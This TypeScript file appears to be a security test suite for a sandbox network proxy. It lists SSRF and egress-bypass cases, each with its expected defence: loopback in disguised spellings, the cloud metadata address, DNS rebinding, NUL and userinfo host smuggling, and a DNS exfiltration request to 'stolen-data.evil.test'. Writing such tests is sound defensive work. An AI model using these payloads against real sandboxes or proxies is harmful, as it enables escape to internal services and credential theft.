import {hostName} from '../core/network/target.ts';
import type {SandboxAttack} from './attack.ts';
import {get, httpBait, viaProxy} from './bait.ts';
import {grant, hasIpv6, reached} from './network-rows.ts';

/* Whom the proxy is asked for: names and addresses that mean another host than was granted. */

const own = "loopback is the run's own, whoever is asked for it; this machine's has one name, and no other leads there";
const order = 'canonicalise, match, and only then resolve once and check the address';

/**
 * This machine, spelled as loopback. The rules and the policy name every spelling, as if a person had granted it.
 */
function disguised(id: string, spelling: string, source: string): SandboxAttack {
	return {
		kind: 'sandbox',
		id,
		title: `reach this machine as ${spelling}`,
		source,
		answer: own,
		async prepare(box) {
			const bait = await httpBait('a server of the host', [], spelling === '[::1]' ? '::1' : '127.0.0.1');
			box.rules = ['localhost', '127.0.0.1', '0.0.0.0', '::1', '::ffff:7f00:1', '::', spelling].map(host => ({
				host,
				port: bait.port,
				source: 'granted',
			}));
			box.privateHosts = box.rules;
			return bait;
		},
		script: (_box, {port}) => get(`http://${spelling}:${port}/`),
		came: ({output}, _box, bait) => bait.hits!() > 0 || output.includes('a server of the host'),
	};
}

const zoneId: SandboxAttack = {
	kind: 'sandbox',
	id: 'zone-id',
	title: 'hide an address behind a zone id',
	source: 'fe80::1%eth0 and its like',
	answer: order,
	async prepare(box) {
		const bait = await httpBait('reached', [], '::1');
		box.rules = [
			{host: '::1%lo', port: bait.port, source: 'granted'},
			{host: '::1', port: bait.port, source: 'granted'},
		];
		box.privateHosts = box.rules;
		return bait;
	},
	script: (_box, {port}) => viaProxy(`CONNECT [::1%25lo]:${port} HTTP/1.1\\r\\n\\r\\n`),
	came: ({output}) => /^HTTP\/1\.1 200/m.test(output),
};

export const nameAttacks: readonly SandboxAttack[] = [
	{
		kind: 'sandbox',
		id: 'empty-allow-list',
		title: 'go anywhere when nothing is listed',
		source: 'CVE-2025-66479: an empty allow-list meant "allow all"',
		answer: 'no rule means no',
		async prepare(box) {
			const bait = await httpBait();
			box.privateHosts = [{host: hostName, port: bait.port, source: 'policy'}];
			return bait;
		},
		script: (_box, {port}) => get(`http://${hostName}:${port}/`),
		came: ({output}) => output.includes('reached'),
	},
	disguised('as-localhost', 'localhost', 'a granted name may mean this machine'),
	disguised('as-short-form', '127.1', 'forms that only some parsers read'),
	disguised('as-hexadecimal', '0x7f000001', 'forms that only some parsers read'),
	disguised('as-decimal', '2130706433', 'forms that only some parsers read'),
	disguised('as-octal', '0177.0.0.1', 'forms that only some parsers read'),
	disguised('as-zero', '0.0.0.0', '0.0.0.0 day'),
	disguised('as-mapped', '[::ffff:127.0.0.1]', 'IPv4 inside IPv6'),
	...(hasIpv6() ? [disguised('as-v6-loopback', '[::1]', 'guards that know IPv4 only')] : []),
	{
		kind: 'sandbox',
		id: 'metadata-service',
		title: "ask a cloud's metadata service",
		source: '169.254.169.254 hands out credentials',
		answer: 'link-local addresses are never dialled, whoever names them',
		prepare(box) {
			box.rules = [{host: '169.254.169.254', source: 'granted'}];
			box.privateHosts = [{host: '169.254.169.254', source: 'policy'}];
			return {};
		},
		script: () => get('http://169.254.169.254/latest/meta-data/'),
		came: ({output}) => !/^HTTP\/1\.1 403/m.test(output),
	},
	{
		kind: 'sandbox',
		id: 'rebinding',
		title: 'have a name resolve to this machine the second time',
		source: 'DNS rebinding',
		answer: order,
		async prepare(box) {
			const bait = await httpBait('inside');
			let asked = 0;
			box.rules = [{host: 'rebind.test', port: bait.port, source: 'granted'}];
			box.privateHosts = box.rules;
			box.resolve = async () => (asked++ % 2 === 0 ? ['192.0.2.1'] : ['127.0.0.1']);
			return bait;
		},
		script: (_box, {port}) =>
			`${get(`http://rebind.test:${port}/`, 'rebind.test')}; ${get(`http://rebind.test:${port}/`, 'rebind.test')}`,
		came: reached,
	},
	{
		kind: 'sandbox',
		id: 'name-of-loopback',
		title: 'be granted a name that resolves to this machine',
		source: 'records such as 127-0-0-1.example, /etc/hosts',
		answer: own,
		async prepare(box) {
			const bait = await httpBait('inside');
			box.rules = [{host: 'mine.test', port: bait.port, source: 'granted'}];
			box.privateHosts = box.rules;
			box.resolve = async () => ['127.0.0.1'];
			return bait;
		},
		script: (_box, {port}) => get(`http://mine.test:${port}/`, 'mine.test'),
		came: reached,
	},
	{
		kind: 'sandbox',
		id: 'host-by-pattern',
		title: 'reach this machine by a pattern, or by a grant without a port',
		source: 'grants that open more than they show',
		answer: own,
		async prepare(box) {
			const bait = await httpBait('inside');
			box.rules = [
				{host: '*.fleet.internal', port: bait.port, source: 'granted'},
				{host: hostName, source: 'granted'},
			];
			return bait;
		},
		script: (_box, {port}) => get(`http://${hostName}:${port}/`),
		came: reached,
	},
	{
		kind: 'sandbox',
		id: 'half-private-name',
		title: 'mix a public address with a private one',
		source: 'resolvers that try the next address',
		answer: 'one address that may not be dialled spoils the answer',
		async prepare(box) {
			const bait = await httpBait('inside');
			box.rules = [{host: 'mixed.test', port: bait.port, source: 'granted'}];
			box.resolve = async () => ['127.0.0.1', '8.8.8.8'];
			return bait;
		},
		script: (_box, {port}) => get(`http://mixed.test:${port}/`, 'mixed.test'),
		came: reached,
	},
	{
		kind: 'sandbox',
		id: 'resolve-before-decide',
		title: 'send data out in the names that are looked up',
		source: 'a proxy that resolves before it decides leaks through DNS',
		answer: order,
		prepare(box) {
			let asked = 0;
			box.resolve = async () => {
				asked++;
				return ['192.0.2.1'];
			};
			return {hits: () => asked};
		},
		script: () => get('http://stolen-data.evil.test/'),
		came: reached,
	},
	{
		kind: 'sandbox',
		id: 'trailing-dot',
		title: 'name a host with a dot at its end',
		source: 'two spellings of one name',
		answer: order,
		async prepare(box) {
			const bait = await httpBait();
			grant(box, bait.port);
			return bait;
		},
		script: (_box, {port}) => get(`http://${hostName}.:${port}/`),
		came: reached,
	},
	{
		kind: 'sandbox',
		id: 'nul-in-host',
		title: 'cut a host name short with a NUL',
		source: 'checks and dialling that read a name differently',
		answer: order,
		async prepare(box) {
			const bait = await httpBait();
			grant(box, bait.port);
			return bait;
		},
		script: (_box, {port}) => viaProxy(`CONNECT ${hostName}\\x00.evil.test:${port} HTTP/1.1\\r\\n\\r\\n`),
		came: ({output}) => /^HTTP\/1\.1 200/m.test(output),
	},
	...(hasIpv6() ? [zoneId] : []),
	{
		kind: 'sandbox',
		id: 'user-info',
		title: 'put another host before an @',
		source: 'granted.test@evil.test',
		answer: order,
		async prepare(box) {
			const bait = await httpBait();
			box.rules = [{host: 'granted.test', port: bait.port, source: 'granted'}];
			return bait;
		},
		script: (_box, {port}) => get(`http://granted.test:${port}@${hostName}:${port}/`),
		came: reached,
	},
	{
		kind: 'sandbox',
		id: 'other-port',
		title: 'use another port of a granted host',
		source: 'a web server beside a database',
		answer: 'a grant is for one port, or for 443 and 80',
		async prepare(box) {
			const bait = await httpBait();
			grant(box, bait.port + 1);
			return bait;
		},
		script: (_box, {port}) => get(`http://${hostName}:${port}/`),
		came: reached,
	},
];
